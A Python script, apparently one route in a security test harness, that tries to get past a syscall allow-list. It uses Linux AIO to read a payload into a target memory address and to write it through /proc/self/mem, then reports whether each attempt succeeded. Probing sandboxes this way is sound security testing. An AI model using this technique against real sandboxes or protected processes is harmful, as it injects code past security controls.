"""Route 10: Linux AIO (io_setup/io_submit are on the allow-list): IOCB_CMD_PREAD of the payload
file into the target (buffered and O_DIRECT), IOCB_CMD_PWRITE of the payload to /proc/self/mem at
the target. Run: python r10_aio.py"""
import ctypes, os
from harness import run_route, en

def attack(t):
    out, R = [], t.routes
    res = ctypes.c_long(0)
    def show(tag, e):
        out.append(f"{tag}:{en(e) if e else 'res ' + (en(-res.value) if res.value < 0 else str(res.value))}")
    for tag, flags in (("PREAD-into", 0), ("PREAD-into-odirect", os.O_DIRECT)):
        try:
            fd = os.open(t.payload_file, os.O_RDONLY | flags)
        except OSError as exc:
            out.append(f"{tag}:open {en(exc.errno)}"); continue
        show(tag, R.aio_rw(0, fd, ctypes.c_void_p(t.dst), ctypes.c_size_t(t.page), ctypes.c_int64(0), ctypes.byref(res)))
        os.close(fd)
    mem = os.open("/proc/self/mem", os.O_RDWR)
    buf = ctypes.create_string_buffer(t.payload, t.page)
    show("PWRITE-procmem", R.aio_rw(1, mem, buf, ctypes.c_size_t(t.page), ctypes.c_int64(t.dst), ctypes.byref(res)))
    os.close(mem)
    return " ".join(out)

if __name__ == "__main__":
    run_route("r10_aio", attack)
